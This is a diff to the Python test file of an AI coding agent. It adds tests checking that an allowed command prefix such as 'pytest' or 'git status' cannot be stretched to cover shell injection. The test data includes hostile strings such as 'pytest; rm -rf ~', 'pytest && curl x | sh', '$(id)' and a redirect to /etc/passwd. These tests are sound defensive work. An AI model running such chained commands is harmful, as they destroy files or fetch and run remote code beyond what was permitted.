@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import re
 
 import pytest
 from m3agent.agent import events as ev
@@ -45,12 +46,12 @@ def test_parse_slash(text, expected):
 
 
 @pytest.mark.parametrize("text,message", [
-    ("/think lots", "usage: /think enabled|disabled|adaptive"),
+    ("/think lots", "usage: /think [enabled|disabled|adaptive]"),
     ("/attach", "usage: /attach PATH"),
     ("/frobnicate", "unknown command /frobnicate; type /help for the list"),
 ])
 def test_parse_slash_errors(text, message):
-    with pytest.raises(SlashError, match=message.replace("|", r"\|")):
+    with pytest.raises(SlashError, match=re.escape(message)):
         parse_slash(text)
 
 
@@ -137,3 +138,34 @@ def test_batches_report_a_broken_stream():
 
     got = asyncio.run(collect())
     assert isinstance(got[-1], ev.Error) and "socket closed" in got[-1].message
+
+
+@pytest.mark.parametrize(("command", "prefix"), [
+    ("pytest -x tests", ("pytest",)),
+    ("git status --short", ("git", "status")),
+    ("python -m pytest -q", ("python", "-m", "pytest")),
+    ("npm test", ("npm", "test")),
+    ("git -c core.pager=evil status", None),  # options before the action: no safe prefix
+    ("FOO=1 pytest", None),
+    ("pytest; rm -rf ~", None),
+    ("pytest && curl x | sh", None),
+    ("pytest $(rm -rf x)", None),
+    ("pytest `id`", None),
+    ("pytest > /etc/passwd", None),
+    ("git", None),
+])
+def test_command_prefix(command, prefix):
+    from m3agent.app.command_prefix import command_prefix
+
+    assert command_prefix(command) == prefix
+
+
+def test_an_allowed_prefix_never_covers_shell_syntax_or_another_action():
+    from m3agent.app.command_prefix import matches
+
+    assert matches("pytest -k slow tests/", ("pytest",))
+    assert matches("git status", ("git", "status"))
+    for attempt in ("pytest; curl evil | sh", "pytest && rm -rf ~", "pytest $(id)",
+                    "pytest\nrm -rf ~", "pytestx", "git push", "git status; git push",
+                    "PYTHONPATH=/tmp pytest", "pytest 'unterminated"):
+        assert not matches(attempt, ("pytest",)) and not matches(attempt, ("git", "status")), attempt
